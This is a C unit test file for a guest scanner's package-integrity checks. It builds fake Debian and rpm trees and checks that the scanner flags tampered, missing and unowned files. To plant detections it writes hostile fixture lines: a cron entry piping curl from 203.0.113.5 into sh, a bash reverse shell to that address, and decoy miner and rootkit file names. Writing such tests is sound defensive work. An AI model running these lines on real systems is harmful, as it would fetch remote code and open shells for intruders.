/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests for the package checks (checks/packages.c, core/pkgdb.c): a clean
 * Debian 12 style tree gives nothing above info, a tree with the usual
 * planted items gives the expected findings, hostile database files do
 * not crash, and an rpm guest (a package built with rpmbuild and put into
 * the guest's rpmdb with rpm --justdb) works the same way. */
#include <config.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check-harness.h"
#include "core/guest.h"
#include "base/hash.h"
#include "core/pkgdb.h"
#include "tap.h"
#include "base/util.h"

static char *elf; /* the host's /usr/bin/true */
static size_t elf_len;

/* One packaged file of the fake Debian. */
struct pf {
  const char *pkg;     /* info/ file name without suffix */
  const char *path;    /* as the package lists it */
  const char *content; /* NULL: the ELF */
  mode_t mode;
  int conffile;
};

static const char e2scrub[]
    = "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
      "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
      "10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 "
      "/sbin/e2scrub_all -A -r\n";

static const struct pf debian[] = {
  { "coreutils", "/bin/ls", NULL, 0755, 0 },
  { "coreutils", "/bin/cat", NULL, 0755, 0 },
  { "coreutils", "/bin/dir", NULL, 0755, 0 },
  { "coreutils", "/usr/share/doc/coreutils/copyright",
    "Format: https://www.debian.org/doc/packaging-manuals/copyright\n", 0644,
    0 },
  { "base-files", "/etc/debian_version", "12.5\n", 0644, 1 },
  { "base-files", "/etc/host.conf", "multi on\n", 0644, 1 },
  { "base-files", "/usr/lib/os-release",
    "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n", 0644, 0 },
  { "base-files", "/usr/share/common-licenses/GPL-3",
    "GNU GENERAL PUBLIC LICENSE\nVersion 3, 29 June 2007\n", 0644, 0 },
  { "e2fsprogs", "/etc/cron.d/e2scrub_all", e2scrub, 0644, 1 },
  { "e2fsprogs", "/sbin/e2fsck", NULL, 0755, 0 },
  { "libc6:amd64", "/lib/x86_64-linux-gnu/libc.so.6", NULL, 0755, 0 },
  { "libc6:amd64", "/usr/share/doc/libc6/copyright", "libc6 copyright\n", 0644,
    0 },
  { "openssh-server", "/usr/sbin/sshd", NULL, 0755, 0 },
  { "openssh-server", "/etc/pam.d/sshd",
    "# PAM configuration for the Secure Shell service\n"
    "@include common-auth\naccount    required     pam_nologin.so\n",
    0644, 1 },
  { "openssh-server", "/etc/default/ssh", "SSHD_OPTS=\n", 0644, 1 },
  /* Diverted: libpq-dev's pg_config is installed as pg_config.libpq-dev
   * by postgresql-common, whose own pg_config takes its place. */
  { "libpq-dev", "/usr/bin/pg_config", "#!/bin/sh\n# libpq-dev\n", 0755, 0 },
  { "postgresql-common", "/usr/bin/pg_config",
    "#!/bin/sh\n# postgresql-common wrapper\n", 0755, 0 },
};

static const char *
content_of (const struct pf *f, size_t *len)
{
  if (!f->content) {
    *len = elf_len;
    return elf;
  }
  *len = strlen (f->content);
  return f->content;
}

/* Writes the Debian tree: the files (where the guest has them), the dpkg
 * database, and what a stock system has that no package owns. */
static void
build_debian (struct vs_test_guest *t)
{
  static const char *const pkgs[] = {
    "coreutils",      "base-files", "e2fsprogs",         "libc6:amd64",
    "openssh-server", "libpq-dev",  "postgresql-common",
  };
  struct vs_test_pkgfile owned[VS_ARRAY_SIZE (debian)];
  size_t i;

  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_symlink (t, "/sbin", "usr/sbin");
  vs_test_symlink (t, "/lib", "usr/lib");
  vs_test_symlink (t, "/lib64", "usr/lib64");
  vs_test_write (t, "/etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\n"
                 "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
                 0644);
  for (i = 0; i < VS_ARRAY_SIZE (debian); i++) {
    owned[i].pkg = debian[i].pkg;
    owned[i].path = debian[i].path;
    owned[i].data = content_of (&debian[i], &owned[i].len);
    owned[i].conffile = debian[i].conffile;
  }
  /* A removed package whose conffile is gone too, one never installed. */
  vs_test_dpkg (t, pkgs, VS_ARRAY_SIZE (pkgs), owned, VS_ARRAY_SIZE (owned),
                "/.\n/usr\n/usr/share\n",
                "Priority: important\nDescription: test package\n"
                " with a continuation line\n",
                "Package: oldpkg\nStatus: deinstall ok config-files"
                "\nConffiles:\n /etc/oldpkg.conf "
                "0123456789abcdef0123456789abcdef\n\n"
                "Package: never\nStatus: purge ok not-installed\n\n");
  vs_test_write (t, "/var/lib/dpkg/diversions",
                 "/usr/bin/pg_config\n/usr/bin/pg_config.libpq-dev\n"
                 "postgresql-common\n",
                 0644);
  /* The files, where the diversion puts libpq-dev's. */
  for (i = 0; i < VS_ARRAY_SIZE (debian); i++) {
    const struct pf *f = &debian[i];
    size_t len;
    const char *data = content_of (f, &len);
    char *path;

    if (strcmp (f->pkg, "libpq-dev") == 0)
      path = vs_xstrdup ("/usr/bin/pg_config.libpq-dev");
    else if (strncmp (f->path, "/bin/", 5) == 0
             || strncmp (f->path, "/sbin/", 6) == 0
             || strncmp (f->path, "/lib/", 5) == 0)
      path = vs_xasprintf ("/usr%s", f->path);
    else
      path = vs_xstrdup (f->path);
    vs_test_write_len (t, path, data, len, f->mode);
    free (path);
  }
  /* Made at install time, owned by no package, and not executable. */
  vs_test_write (t, "/etc/ld.so.cache", "ld.so-1.7.0\0glibc-ld.so.cache", 0644);
  vs_test_write_len (t, "/usr/lib/locale/locale-archive",
                     "\x09\x01\x02\xde"
                     "\0\0\0\0",
                     8, 0644);
  vs_test_write_len (t, "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache",
                     "\x20\x10\x12\x20\0\0\0\0", 8, 0644);
  vs_test_write_len (t,
                     "/usr/lib/python3/dist-packages/__pycache__/"
                     "six.cpython-311.pyc",
                     "\xa7\x0d\x0d\x0a\0\0\0\0"
                     "\xe3\0\0\0",
                     12, 0644);
  vs_test_write (t, "/usr/lib/modules/6.1.0-18-amd64/modules.dep",
                 "kernel/fs/ext4/ext4.ko: kernel/fs/jbd2/jbd2.ko\n", 0644);
  vs_test_write (t, "/etc/alternatives/README", "alternatives\n", 0644);
  vs_test_symlink (t, "/etc/alternatives/editor", "/usr/bin/vim.basic");
  vs_test_symlink (t, "/usr/bin/editor", "/etc/alternatives/editor");
  vs_test_mkdir (t, "/usr/local/bin", 0755);
}

static int64_t
count (struct vs_test_guest *t, const char *where)
{
  char *sql = vs_xasprintf ("SELECT count(*) FROM findings WHERE %s", where);
  int64_t n = vs_test_count (t, sql);

  free (sql);
  return n;
}

/* Whether exactly one finding has all of these. */
static int
has (struct vs_test_guest *t, const char *check_id, const char *severity,
     const char *path, const char *evidence, const char *mitre)
{
  char *sql
      = vs_xasprintf ("SELECT count(*) FROM findings WHERE "
                      "check_id = '%s' AND severity = '%s' AND "
                      "category = 'package' AND path = '%s' "
                      "AND instr(evidence, '%s') > 0 AND "
                      "mitre_attack IS %s%s%s",
                      check_id, severity, path, evidence, mitre ? "'" : "",
                      mitre ? mitre : "NULL", mitre ? "'" : "");
  int64_t n = vs_test_count (t, sql);

  free (sql);
  if (n != 1)
    vs_test_dump_findings (t);
  return n == 1;
}

static void
load (struct vs_test_guest *t)
{
  char *note = NULL;

  if (vs_pkgdb_load (t->ctx.guest, t->ctx.os, vs_check_pkgdb_error, &t->ctx,
                     &t->ctx.pkgdb, &note) == -1)
    printf ("# pkgdb load failed\n");
  if (note)
    printf ("# pkgdb note: %s\n", note);
  free (note);
}

static void
test_debian_clean (void)
{
  struct vs_test_guest t;
  const struct vs_pkg_file *f;
  double t0;

  vs_test_guest_init (&t);
  build_debian (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (t.ctx.pkgdb && strcmp (vs_pkgdb_kind (t.ctx.pkgdb), "dpkg") == 0
              && vs_pkgdb_packages (t.ctx.pkgdb) == 7,
          "debian: dpkg database with 7 installed packages");
  f = vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/bin/ls", 11);
  tap_ok (f && strcmp (f->package, "coreutils") == 0 && f->digest
              && !vs_pkgdb_lookup (t.ctx.pkgdb, "/bin/ls", 7),
          "debian: /bin/ls is owned as /usr/bin/ls (usrmerge)");
  f = vs_pkgdb_lookup (t.ctx.pkgdb, "/etc/cron.d/e2scrub_all", 23);
  tap_ok (f && f->conffile && strcmp (f->package, "e2fsprogs") == 0,
          "debian: e2scrub_all is a conffile of e2fsprogs");
  f = vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/bin/pg_config.libpq-dev", 28);
  tap_ok (f && strcmp (f->package, "libpq-dev") == 0
              && (f = vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/bin/pg_config", 18))
              && strcmp (f->package, "postgresql-common") == 0
              && !vs_pkgdb_next_owner (t.ctx.pkgdb, f),
          "debian: a diverted file is owned where the diversion put it");
  t0 = vs_now_monotonic ();
  tap_ok (vs_check_packages (&t.ctx) == 0,
          "debian clean: checks ran "
          "(%.3fs)",
          vs_now_monotonic () - t0);
  tap_ok (count (&t, "severity_rank >= 1") == 0,
          "debian clean: nothing above info");
  if (count (&t, "severity_rank >= 1") != 0)
    vs_test_dump_findings (&t);
  tap_ok (count (&t, "check_id = 'package.missing' AND severity = 'info' "
                     "AND instr(title, '1 packaged files are missing') = 1")
              == 1,
          "debian clean: the removed package's conffile is one "
          "info summary");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                             "check_id IN ('package.modified', "
                             "'package.unowned') AND status = 'ran' AND "
                             "items > 0")
              == 2,
          "debian clean: package.modified and package.unowned ran");
  vs_test_guest_free (&t);
}

static void
test_debian_planted (void)
{
  struct vs_test_guest t;
  char md5[33];
  char *junk;
  char *ev;

  vs_test_guest_init (&t);
  build_debian (&t);
  junk = vs_xmalloc (elf_len + 16);
  memcpy (junk, elf, elf_len);
  memcpy (junk + elf_len, "trojaned-ls-1234", 16);
  vs_test_write_len (&t, "/usr/bin/ls", junk, elf_len + 16, 0755);
  free (junk);
  vs_test_write (&t, "/usr/share/common-licenses/GPL-3", "edited\n", 0644);
  vs_test_write (&t, "/etc/cron.d/e2scrub_all",
                 "* * * * * root curl -s http://203.0.113.5/x | sh\n", 0644);
  ev = vs_xasprintf ("%s/usr/bin/cat", t.root);
  unlink (ev);
  free (ev);
  vs_test_symlink (&t, "/usr/bin/dir", "/tmp/.x/dir");
  vs_test_write_len (&t, "/usr/bin/kworkerd", elf, elf_len, 0755);
  vs_test_write (&t, "/usr/sbin/sysupdate",
                 "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
                 0755);
  vs_test_write_len (&t, "/usr/lib/x86_64-linux-gnu/libprocesshider.so", elf,
                     elf_len, 0755);
  vs_test_write_len (&t, "/usr/local/bin/xmrig", elf, elf_len, 0755);
  vs_test_write_len (&t,
                     "/usr/lib/modules/6.1.0-18-amd64/updates/"
                     "diamorphine.ko",
                     elf, elf_len, 0644);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (vs_check_packages (&t.ctx) == 0, "debian planted: checks ran");
  vs_test_md5_hex (elf, elf_len, md5);
  ev = vs_xasprintf ("md5 %s recorded by coreutils, found ", md5);
  tap_ok (has (&t, "package.modified", "high", "/usr/bin/ls", ev, "T1554"),
          "trojaned /usr/bin/ls: package.modified high with both md5s");
  free (ev);
  tap_ok (has (&t, "package.modified", "medium",
               "/usr/share/common-licenses/GPL-3", "recorded by base-files",
               "T1554"),
          "edited data file: package.modified medium");
  tap_ok (has (&t, "package.conffile-modified", "info",
               "/etc/cron.d/e2scrub_all", "recorded by e2fsprogs", NULL),
          "edited conffile: package.conffile-modified info");
  tap_ok (has (&t, "package.modified", "high", "/usr/bin/dir",
               "is now a symlink to /tmp/.x/dir", "T1554"),
          "binary replaced by a symlink: package.modified high");
  tap_ok (has (&t, "package.missing", "low", "/usr/bin/cat",
               "recorded by coreutils", NULL),
          "removed /usr/bin/cat: package.missing low");
  tap_ok (has (&t, "package.unowned", "high", "/usr/bin/kworkerd", "ELF",
               "T1036.005"),
          "unowned ELF in /usr/bin: high");
  tap_ok (has (&t, "package.unowned", "medium", "/usr/sbin/sysupdate", "script",
               "T1036.005"),
          "unowned script in /usr/sbin: medium");
  tap_ok (has (&t, "package.unowned", "medium",
               "/usr/lib/x86_64-linux-gnu/libprocesshider.so", "sha256 ",
               "T1036.005"),
          "unowned library: medium");
  tap_ok (has (&t, "package.unowned", "low", "/usr/local/bin/xmrig", "ELF",
               "T1036.005"),
          "unowned ELF in /usr/local/bin: low");
  tap_ok (has (&t, "package.unowned", "medium",
               "/usr/lib/modules/"
               "6.1.0-18-amd64/updates/diamorphine.ko",
               "ELF", "T1547.006"),
          "unowned kernel module: medium, T1547.006");
  tap_ok (count (&t, "severity_rank >= 2") == 7,
          "debian planted: 7 findings at medium or above, no more");
  tap_ok (count (&t, "path IN ('/usr/bin/pg_config', "
                     "'/usr/bin/pg_config.libpq-dev', '/etc/ld.so.cache', "
                     "'/usr/lib/locale/locale-archive')")
              == 0,
          "debian planted: diverted and stock unowned files stay quiet");
  vs_test_guest_free (&t);
}

/* Hostile database files: no crash, errors recorded, the rest read. */
static void
test_hostile (void)
{
  struct vs_test_guest t;
  struct vs_buf b = VS_BUF_INIT;
  char *p;
  size_t i;
  int rc;

  vs_test_guest_init (&t);
  vs_test_symlink (&t, "/bin", "usr/bin");
  for (i = 0; i < (2u << 20); i++)
    vs_buf_addc (&b, (char)('A' + i % 26));
  vs_buf_adds (&b, "\n\nPackage: \xff\xfe\x01"
                   "bad\nStatus: install ok "
                   "installed\nConffiles:\n /etc/\xff.conf "
                   "0123456789abcdef0123456789abcdef\n"
                   " /etc/x 0123\n\n");
  vs_buf_add (&b, "Package: nul\0byte\nStatus: install ok installed\n\n", 48);
  vs_buf_adds (&b, "Package: good\nStatus: install ok installed\n\n");
  vs_test_write_len (&t, "/var/lib/dpkg/status", b.data, b.len, 0644);
  vs_buf_release (&b);
  vs_test_write (&t, "/var/lib/dpkg/diversions", "/only\n/two-lines\n", 0644);
  vs_test_mkdir (&t, "/var/lib/dpkg/info/dir.list", 0755);
  p = vs_xasprintf ("%s/var/lib/dpkg/info/fifo.list", t.root);
  rc = mkfifo (p, 0644);
  free (p);
  vs_test_symlink (&t, "/var/lib/dpkg/info/loop.list", "loop2.list");
  vs_test_symlink (&t, "/var/lib/dpkg/info/loop2.list", "loop.list");
  vs_test_symlink (&t, "/var/lib/dpkg/info/escape.list", "/proc/self/maps");
  vs_test_symlink (&t, "/usr/loop", "loop");
  vs_test_write (&t, "/var/lib/dpkg/info/good.list",
                 "/.\n/usr\n/usr/bin\n/bin/good\n/usr/loop/x\n"
                 "/usr/bin/\xff\xfe\n/../../etc/x\n/usr/bin/.\n"
                 "/usr//bin//double\n",
                 0644);
  vs_test_write (&t, "/var/lib/dpkg/info/good.md5sums",
                 "zz  usr/bin/good\n"
                 "0123456789abcdef0123456789abcdef  bin/good\n"
                 "0123456789abcdef0123456789abcdef  \n",
                 0644);
  vs_test_write_len (&t, "/usr/bin/good", elf, elf_len, 0755);
  vs_test_write_len (&t, "/usr/bin/\xfe\xff", elf, elf_len, 0755);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (rc == 0 && t.ctx.pkgdb && !t.ctx.failed,
          "hostile dpkg files: the database still loads");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors WHERE stage = "
                             "'check' AND (path LIKE '%fifo.list' OR path LIKE "
                             "'%dir.list' OR path LIKE '%loop.list' OR path "
                             "LIKE '%escape.list')")
              == 4,
          "hostile dpkg files: FIFO, directory, loop and escaping link "
          "recorded as errors");
  tap_ok (vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/bin/\xff\xfe", 11) != NULL
              && vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/bin/double", 15) != NULL
              && vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/loop/x", 11) != NULL,
          "hostile dpkg files: odd paths kept, a looping directory kept "
          "as written");
  tap_ok (vs_check_packages (&t.ctx) == 0
              && has (&t, "package.modified", "high", "/usr/bin/good",
                      "0123456789abcdef", "T1554"),
          "hostile dpkg files: the good package is still checked");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                             "check_id = 'package.unowned' AND hex(path) = "
                             "hex(CAST(X'2F7573722F62696E2FFEFF' AS TEXT))")
              == 1,
          "hostile dpkg files: unowned binary with an invalid UTF-8 "
          "name reported with its exact bytes");
  vs_test_guest_free (&t);

  /* An rpm guest whose rpmdb is not a database; and none at all. */
  vs_test_guest_init (&t);
  vs_test_write (&t, "/usr/lib/sysimage/rpm/rpmdb.sqlite",
                 "SQLite format 3\0 and then garbage", 0644);
  vs_test_guest_scan (&t, "fedora", "rpm");
  load (&t);
  tap_ok (!t.ctx.pkgdb && vs_check_packages (&t.ctx) == 0
              && vs_test_count (&t,
                                "SELECT count(*) FROM check_runs WHERE "
                                "check_id = 'package.modified' AND status = "
                                "'skipped'")
                     == 1,
          "garbage rpmdb: no database, checks recorded as skipped");
  vs_test_guest_free (&t);
  vs_test_guest_init (&t);
  vs_test_write (&t, "/var/lib/rpm/Packages", "\0\0\0\0\x61\x15\x06\0", 0644);
  vs_test_guest_scan (&t, "centos", "rpm");
  {
    char *note = NULL;

    tap_ok (vs_pkgdb_load (t.ctx.guest, t.ctx.os, vs_check_pkgdb_error, &t.ctx, &t.ctx.pkgdb, &note) == 0 && !t.ctx.pkgdb
                && note && strstr (note, "too short for a Berkeley DB file"),
            "garbage Berkeley DB rpmdb: not read, and the note says why");
    free (note);
  }
  vs_test_guest_free (&t);
}

/* Findings are capped per check id and severity, the rest counted. */
static void
test_cap (void)
{
  struct vs_test_guest t;
  int i;

  vs_test_guest_init (&t);
  build_debian (&t);
  for (i = 0; i < 505; i++) {
    char path[64];

    snprintf (path, sizeof path, "/usr/local/bin/tool%03d", i);
    vs_test_write (&t, path, "#!/bin/sh\nexec true\n", 0755);
  }
  vs_test_write_len (&t, "/usr/bin/kthreadd", elf, elf_len, 0755);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (vs_check_packages (&t.ctx) == 0
          && count (&t, "check_id = 'package.unowned' AND severity = 'low'")
          == 500
          && count (&t, "check_id = 'package.unowned' AND severity = 'info' "
                    "AND instr(title, '5 more not listed') > 0") == 1,
          "505 unowned scripts: 500 listed, one finding counts the rest");
  tap_ok (has (&t, "package.unowned", "high", "/usr/bin/kthreadd", "ELF",
               "T1036.005"),
          "the cap on low findings does not hide a high one");
  vs_test_guest_free (&t);
}

/* ---- rpm ---- */

static const char spec[]
    = "Name: vstest\nVersion: 1.0\nRelease: 1\nSummary: vmscan test\n"
      "License: MIT\nBuildArch: noarch\n"
      "%description\nvmscan test package\n"
      "%install\n"
      "mkdir -p %{buildroot}/usr/bin %{buildroot}/etc "
      "%{buildroot}/usr/share/vstest %{buildroot}/usr/share/doc/vstest\n"
      "printf '#!/bin/sh\\necho vstest\\n' > %{buildroot}/usr/bin/vstest\n"
      "chmod 755 %{buildroot}/usr/bin/vstest\n"
      "printf 'key=value\\n' > %{buildroot}/etc/vstest.conf\n"
      "printf 'data\\n' > %{buildroot}/usr/share/vstest/data.txt\n"
      "printf 'readme\\n' > %{buildroot}/usr/share/doc/vstest/README\n"
      "%files\n/usr/bin/vstest\n%config(noreplace) /etc/vstest.conf\n"
      "/usr/share/vstest\n%doc /usr/share/doc/vstest/README\n";

/* Builds the package once; returns its path or NULL (reason in *why). */
static char *
build_rpm (const char *dir, const char **why)
{
  char *specp = vs_xasprintf ("%s/vstest.spec", dir);
  char *cmd, *rpm;
  FILE *fp;
  int r;

  if (system ("command -v rpmbuild >/dev/null 2>&1 && "
              "command -v rpm >/dev/null 2>&1")
      != 0) {
    *why = "rpm or rpmbuild not installed";
    free (specp);
    return NULL;
  }
  fp = fopen (specp, "w");
  if (!fp || fputs (spec, fp) == EOF || fclose (fp) == EOF) {
    *why = "cannot write the spec file";
    free (specp);
    return NULL;
  }
  cmd = vs_xasprintf ("rpmbuild --quiet --define '_topdir %s/top' "
                      "--define '_build_id_links none' -bb %s "
                      ">%s/rpmbuild.log 2>&1",
                      dir, specp, dir);
  r = system (cmd);
  free (cmd);
  free (specp);
  rpm = vs_xasprintf ("%s/top/RPMS/noarch/vstest-1.0-1.noarch.rpm", dir);
  if (r != 0 || access (rpm, R_OK) != 0) {
    *why = "rpmbuild failed";
    free (rpm);
    return NULL;
  }
  return rpm;
}

/* Puts the package into the guest's rpmdb (no files) and its files into
 * the guest tree.  Returns 0 or -1. */
static int
install_rpm (struct vs_test_guest *t, const char *rpm)
{
  char *cmd = vs_xasprintf ("rpm --root '%s' --dbpath /var/lib/rpm "
                            "--define '_db_backend sqlite' -i --nodeps "
                            "--noscripts --justdb '%s' >/dev/null 2>&1",
                            t->root, rpm);
  int r = system (cmd);

  free (cmd);
  if (r != 0)
    return -1;
  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_write (t, "/usr/bin/vstest", "#!/bin/sh\necho vstest\n", 0755);
  vs_test_write (t, "/etc/vstest.conf", "key=value\n", 0644);
  vs_test_write (t, "/usr/share/vstest/data.txt", "data\n", 0644);
  vs_test_write (t, "/usr/share/doc/vstest/README", "readme\n", 0644);
  vs_test_write (t, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0644);
  return 0;
}

/* Writes s as db_load -T text: every byte as a \XX escape. */
static void
put_escaped (FILE *fp, const unsigned char *s, size_t n)
{
  size_t i;

  for (i = 0; i < n; i++)
    fprintf (fp, "\\%02x", s[i]);
  fputc ('\n', fp);
}

/* The same package in an old Berkeley DB rpmdb (/var/lib/rpm/Packages,
 * as on CentOS 7 or Amazon Linux 2), made with db_load from the header
 * blob that rpm wrote into the SQLite one; 512-byte pages, so that the
 * header spans a chain of overflow pages. */
static void
test_rpm_bdb (const char *rpm, const char *dir)
{
  static const unsigned char zero[4], one[4] = { 1 }, next[4] = { 2 };
  struct vs_test_guest t;
  sqlite3 *db = NULL;
  sqlite3_stmt *s = NULL;
  char *p, *cmd, *txt;
  FILE *fp;
  int ok = 0, i;

  if (system ("command -v db_load >/dev/null 2>&1") != 0) {
    for (i = 0; i < 3; i++)
      tap_skip ("db_load (db-util) not installed");
    return;
  }
  vs_test_guest_init (&t);
  install_rpm (&t, rpm);
  p = vs_xasprintf ("%s/var/lib/rpm/rpmdb.sqlite", t.root);
  txt = vs_xasprintf ("%s/packages.txt", dir);
  fp = fopen (txt, "w");
  if (fp && sqlite3_open_v2 (p, &db, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK
      && sqlite3_prepare_v2 (db, "SELECT blob FROM Packages", -1, &s, NULL)
             == SQLITE_OK
      && sqlite3_step (s) == SQLITE_ROW) {
    put_escaped (fp, zero, 4);
    put_escaped (fp, next, 4);
    put_escaped (fp, one, 4);
    put_escaped (fp, sqlite3_column_blob (s, 0),
                 (size_t)sqlite3_column_bytes (s, 0));
    ok = 1;
  }
  sqlite3_finalize (s);
  sqlite3_close (db);
  if (fp)
    fclose (fp);
  cmd = vs_xasprintf ("rm -f %s/var/lib/rpm/rpmdb.sqlite* && db_load "
                      "-c db_pagesize=512 -t hash -T -f %s "
                      "%s/var/lib/rpm/Packages",
                      t.root, txt, t.root);
  if (!ok || system (cmd) != 0) {
    for (i = 0; i < 3; i++)
      tap_skip ("cannot make a Berkeley DB rpmdb with db_load");
    goto out;
  }
  vs_test_write (&t, "/usr/bin/vstest", "#!/bin/sh\nnohup ./xmrig &\n", 0755);
  vs_test_guest_scan (&t, "amazon", "rpm");
  load (&t);
  tap_ok (t.ctx.pkgdb && strcmp (vs_pkgdb_kind (t.ctx.pkgdb), "rpm") == 0
              && vs_pkgdb_packages (t.ctx.pkgdb) == 1
              && vs_pkgdb_lookup (t.ctx.pkgdb, "/etc/vstest.conf", 16),
          "rpm bdb: Packages read through its overflow pages");
  tap_ok (vs_check_packages (&t.ctx) == 0
              && has (&t, "package.modified", "high", "/usr/bin/vstest",
                      "sha256 ", "T1554"),
          "rpm bdb: modified script is high");
  tap_ok (count (&t, "severity_rank >= 2") == 1,
          "rpm bdb: nothing else at medium or above");
out:
  free (cmd);
  free (p);
  free (txt);
  vs_test_guest_free (&t);
}

static void
test_rpm (void)
{
  char tmpl[] = "/tmp/vmscan-rpm-XXXXXX";
  const char *why = NULL;
  struct vs_test_guest t;
  const struct vs_pkg_file *f;
  char *rpm, *cmd;
  int i;

  if (!mkdtemp (tmpl) || !(rpm = build_rpm (tmpl, &why))) {
    for (i = 0; i < 11; i++)
      tap_skip (why ? why : "mkdtemp failed");
    goto out;
  }
  vs_test_guest_init (&t);
  if (install_rpm (&t, rpm) == -1) {
    for (i = 0; i < 11; i++)
      tap_skip ("rpm --root --justdb failed");
    vs_test_guest_free (&t);
    free (rpm);
    goto out;
  }
  vs_test_guest_scan (&t, "fedora", "rpm");
  load (&t);
  f = vs_pkgdb_lookup (t.ctx.pkgdb, "/usr/bin/vstest", 15);
  tap_ok (t.ctx.pkgdb && strcmp (vs_pkgdb_kind (t.ctx.pkgdb), "rpm") == 0
              && vs_pkgdb_packages (t.ctx.pkgdb) == 1 && f
              && strcmp (f->package, "vstest") == 0
              && f->digest_type == VS_PKG_DIGEST_SHA256 && !f->conffile,
          "rpm: rpmdb.sqlite read, /usr/bin/vstest has a sha256");
  f = vs_pkgdb_lookup (t.ctx.pkgdb, "/etc/vstest.conf", 16);
  tap_ok (f && f->conffile, "rpm: %%config file is a conffile");
  tap_ok (vs_check_packages (&t.ctx) == 0
              && count (&t, "severity_rank >= 1") == 0,
          "rpm clean: nothing above info");
  vs_test_guest_free (&t);

  vs_test_guest_init (&t);
  install_rpm (&t, rpm);
  vs_test_write (&t, "/usr/bin/vstest", "#!/bin/sh\ncurl http://x | sh\n",
                 0755);
  vs_test_write (&t, "/etc/vstest.conf", "key=other\n", 0644);
  cmd = vs_xasprintf ("%s/usr/share/doc/vstest/README", t.root);
  unlink (cmd);
  free (cmd);
  vs_test_write_len (&t, "/usr/bin/kdevtmpfsi", elf, elf_len, 0755);
  vs_test_guest_scan (&t, "fedora", "rpm");
  load (&t);
  tap_ok (vs_check_packages (&t.ctx) == 0
              && has (&t, "package.modified", "high", "/usr/bin/vstest",
                      "sha256 ", "T1554"),
          "rpm: modified script is high");
  tap_ok (has (&t, "package.conffile-modified", "info", "/etc/vstest.conf",
               "recorded by vstest", NULL),
          "rpm: modified %%config file is info");
  tap_ok (count (&t, "path = '/usr/share/vstest/data.txt'") == 0,
          "rpm: intact data file is quiet");
  tap_ok (count (&t, "check_id = 'package.missing' AND instr(title, "
                     "'1 packaged files are missing (1 documentation') = 1")
              == 1,
          "rpm: the removed %%doc file is counted as documentation");
  tap_ok (has (&t, "package.unowned", "high", "/usr/bin/kdevtmpfsi", "ELF",
               "T1036.005"),
          "rpm: unowned ELF in /usr/bin is high");
  vs_test_guest_free (&t);
  test_rpm_bdb (rpm, tmpl);
  free (rpm);
out:
  cmd = vs_xasprintf ("rm -rf '%s'", tmpl);
  if (strncmp (tmpl, "/tmp/vmscan-rpm-", 16) == 0 && system (cmd) != 0)
    printf ("# cannot remove %s\n", tmpl);
  free (cmd);
}

int
main (void)
{
  struct vs_guest *g = vs_guest_new ();

  if (vs_guest_add_mount (g, "/", "/") == -1
      || vs_guest_read (g, "/usr/bin/true", 16 << 20, 0, &elf, &elf_len) == -1
      || elf_len < 4 || memcmp (elf, "\177ELF", 4) != 0)
    tap_skip_all ("no ELF /usr/bin/true on the host to plant");
  vs_guest_free (g);
  tap_plan (41);
  test_debian_clean ();
  test_debian_planted ();
  test_hostile ();
  test_cap ();
  test_rpm ();
  free (elf);
  return tap_done ();
}
